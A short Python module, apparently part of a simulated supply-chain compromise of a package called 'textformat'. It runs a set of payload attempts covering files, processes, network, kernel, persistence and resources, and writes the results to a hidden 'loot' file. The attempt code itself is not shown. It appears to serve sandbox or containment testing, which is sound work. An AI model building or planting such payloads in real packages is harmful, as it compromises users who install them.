"""What the compromised release of textformat brought along."""

from __future__ import annotations

import json
import os
import sys

from textformat.payload import attempt, files, kernel, network, persistence, processes, resources

LOOT = ".textformat-cache"
_ORDER = [module.__name__ for module in (files, processes, network, kernel, persistence, resources)]


def strike() -> None:
    """Make every attempt, and leave what came of them where the application may write: its last argument."""
    with open(os.path.join(sys.argv[-1], LOOT), "w", encoding="utf-8") as loot:
        for entry in sorted(attempt.ATTEMPTS, key=lambda entry: _ORDER.index(entry.act.__module__)):
            loot.write(json.dumps(attempt.make(entry)) + "\n")
            loot.flush()
